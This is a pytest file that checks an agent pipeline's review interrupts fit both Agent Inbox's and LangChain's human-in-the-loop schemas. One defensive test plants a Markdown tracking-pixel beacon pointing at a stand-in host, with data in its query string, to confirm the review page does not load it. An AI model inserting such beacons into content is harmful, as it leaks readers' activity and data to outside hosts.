"""What a review surfaces: one payload that Agent Inbox, Agent Chat UI and Studio each open unchanged."""

from __future__ import annotations

import json
import warnings
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator
from pydantic import TypeAdapter

from agents.voice.proposal import DraftProposal
from agents.writer import WriterUnavailable
from graph.answers import ReviewAnswer, decode, payload
from state.base import AgentName
from state.markup import linked
from state.records import REVIEW_POINTS, ReviewPoint
from tests.graph.rig import POINT_OF, Act, Acting, Flow, OpenFlow, Script, broken, changed

pytestmark = pytest.mark.long

# Agent Inbox's own types (langchain-ai/agent-inbox, README "Interrupts"): HumanInterrupt.
INBOX = {
    "type": "object",
    "required": ["action_request", "config", "description"],
    "properties": {
        "action_request": {
            "type": "object",
            "required": ["action", "args"],
            "additionalProperties": False,
            "properties": {
                "action": {"type": "string", "minLength": 1},
                "args": {"type": "object", "additionalProperties": {"type": "string"}},
            },
        },
        "config": {
            "type": "object",
            "required": ["allow_ignore", "allow_respond", "allow_edit", "allow_accept"],
            "additionalProperties": {"type": "boolean"},
        },
        "description": {"type": "string", "minLength": 1},
    },
}
# LangChain's human-in-the-loop middleware: HITLRequest.
HITL = {
    "type": "object",
    "required": ["action_requests", "review_configs"],
    "properties": {
        "action_requests": {
            "type": "array",
            "minItems": 1,
            "maxItems": 1,
            "items": {
                "type": "object",
                "required": ["name", "args"],
                "properties": {
                    "name": {"type": "string"},
                    "args": {"type": "object", "additionalProperties": {"type": "string"}},
                    "description": {"type": "string"},
                },
            },
        },
        "review_configs": {
            "type": "array",
            "minItems": 1,
            "maxItems": 1,
            "items": {
                "type": "object",
                "required": ["action_name", "allowed_decisions"],
                "properties": {
                    "action_name": {"type": "string"},
                    "allowed_decisions": {
                        "type": "array",
                        "minItems": 1,
                        "uniqueItems": True,
                        "items": {"enum": ["approve", "edit", "reject", "respond"]},
                    },
                },
            },
        },
    },
}


def _holds(surfaced: dict[str, Any]) -> None:
    """Both public schemas, as schemas and as the libraries' own types; and what survives JSON is the same."""
    Draft202012Validator(INBOX).validate(surfaced)
    Draft202012Validator(HITL).validate(surfaced)
    from langchain.agents.middleware.human_in_the_loop import HITLRequest

    with warnings.catch_warnings():
        warnings.simplefilter(
            "ignore"
        )  # the type is deprecated in favour of LangChain's, and Agent Inbox still speaks it
        from langgraph.prebuilt.interrupt import HumanInterrupt

        TypeAdapter(HumanInterrupt).validate_python(
            {k: surfaced[k] for k in ("action_request", "config", "description")}, strict=True
        )
    TypeAdapter(HITLRequest).validate_python(
        {k: surfaced[k] for k in ("action_requests", "review_configs")}, strict=True
    )
    assert json.loads(json.dumps(surfaced)) == surfaced
    (request,), (config,) = surfaced["action_requests"], surfaced["review_configs"]
    args = surfaced["action_request"]["args"]
    assert request["args"] == request["arguments"] == args
    assert request["name"] == config["action_name"] == surfaced["action_request"]["action"]
    assert request["description"] == surfaced["description"]
    assert list(args)[-1] == "decision"


async def _agree(piece: Flow) -> None:
    """The payload offers what is open, and nothing else."""
    surfaced, shown = await piece.payload(), await piece.shown()
    _holds(surfaced)
    assert surfaced == payload(shown)
    config, allowed = surfaced["config"], surfaced["review_configs"][0]["allowed_decisions"]
    assert config["allow_accept"] == ("approve" in shown.open) == ("approve" in allowed)
    assert config["allow_edit"] == ("edit" in shown.open) == ("edit" in allowed)
    assert config["allow_respond"] == ("rework" in shown.open)
    assert config["allow_ignore"] is True
    assert surfaced["action_request"]["args"]["decision"] == ("approve" if "approve" in shown.open else "")


async def test_each_point_surfaces_both_schemas(workspace: Path, flow: OpenFlow) -> None:
    """At every review point the payload fits Agent Inbox's schema and LangChain's, on a workspace with three channels."""
    changed(workspace, channels__bluesky='handle = "a.example"', channels__mastodon='server = "https://a.example"')
    piece = await flow().start()
    texts = {"review_brief": ["brief"], "review_draft": ["draft"], "review_offer": ["offer"]}
    for point in REVIEW_POINTS:
        await _agree(piece)
        assert list(await piece.args()) == [*texts.get(point, ["site", "bluesky", "mastodon"]), "decision"]
        await piece.accept()


@pytest.mark.parametrize("agent", POINT_OF)
async def test_a_stuck_point_surfaces_both_schemas(agent: AgentName, flow: OpenFlow) -> None:
    """A stuck review point fits them too, and its description names each violation."""
    acts: list[Act] = [broken] * 3
    piece = flow(Acting(**{agent: acts}))
    await piece.to(POINT_OF[agent])
    assert (await piece.shown()).stuck
    await _agree(piece)
    assert (await piece.shown()).violations[0].message in (await piece.payload())["description"]


async def test_nothing_to_show_surfaces_both_schemas(workspace: Path, flow: OpenFlow) -> None:
    """With nothing to show, and with no rework left either, the payload still fits both."""
    changed(workspace, bounds="person = 1")
    down = WriterUnavailable("openai:x", "It is down.", "Wait.")
    piece = await flow(script=Script(answers={"content.brief": lambda task: down})).start()
    await _agree(piece)
    assert await piece.args() == {"decision": ""}
    await piece.rework("content")
    await _agree(piece)
    await piece.drop()
    assert (await piece.row()).status == "dropped"


@pytest.mark.parametrize("point", REVIEW_POINTS)
async def test_a_refused_edit_surfaces_both_schemas(point: ReviewPoint, flow: OpenFlow) -> None:
    """Once an edit was refused the payload holds the person's words and still fits both schemas."""
    piece = await flow().to(point)
    key = next(iter(await piece.args()))
    await piece.answer({"type": "edit", "args": {key: "Not a text that anybody could read back."}})
    await _agree(piece)
    assert (await piece.args())[key] == "Not a text that anybody could read back."


async def test_the_description_says_what_to_do(flow: OpenFlow) -> None:
    """The description is Markdown with a heading, the text itself, the open decisions and where a rework can go."""
    piece = await flow().to("review_offer")
    description = (await piece.payload())["description"]
    assert description.startswith("# MonetizedDraft: please review\n\n")
    assert (await piece.args())["offer"] in description
    assert "**Open decisions:** approve, edit, rework, drop." in description
    assert "Rework can go to content, voice, revenue, 10 more times." in description


async def test_the_schema_tells_clients_what_to_answer(flow: OpenFlow) -> None:
    """The interrupt carries the JSON Schema of its answers, and every shape that we decode fits it."""
    piece = await flow().start()
    (interrupt,) = (i for task in (await piece.snapshot()).tasks for i in task.interrupts)
    assert isinstance(interrupt.response_schema, dict)
    schema = Draft202012Validator(interrupt.response_schema)
    for answer in (
        [{"type": "accept", "args": None}],
        {"type": "ignore"},
        [{"type": "edit", "args": {"action": "review_brief", "args": {"brief": "x"}}}],
        {"decisions": [{"type": "reject", "message": "too long"}]},
    ):
        schema.validate(answer)
        assert decode(ReviewAnswer.model_validate(answer), await piece.shown())
    assert not schema.is_valid({"type": "maybe"})


async def test_a_review_page_loads_nothing(flow: OpenFlow) -> None:
    """An image that a writer put in is shown as the text it is, so that no browser that shows the review tells anybody; edits get the text."""
    beacon = "![](https://pixel.example/p.png?d=notes)"
    script = Script(answers={"voice.draft": lambda task: _with(task.by_rule(task.given), beacon)})
    piece = await flow(script=script).to("review_draft")
    shown = await piece.shown()
    assert shown.stuck
    assert beacon in dict(shown.args)["draft"]
    assert not linked(shown.description).images
    assert beacon in shown.description.replace("\\", "")


def _with(made: DraftProposal, more: str) -> DraftProposal:
    return made.model_copy(update={"body": f"{made.body}\n\n{more}"})
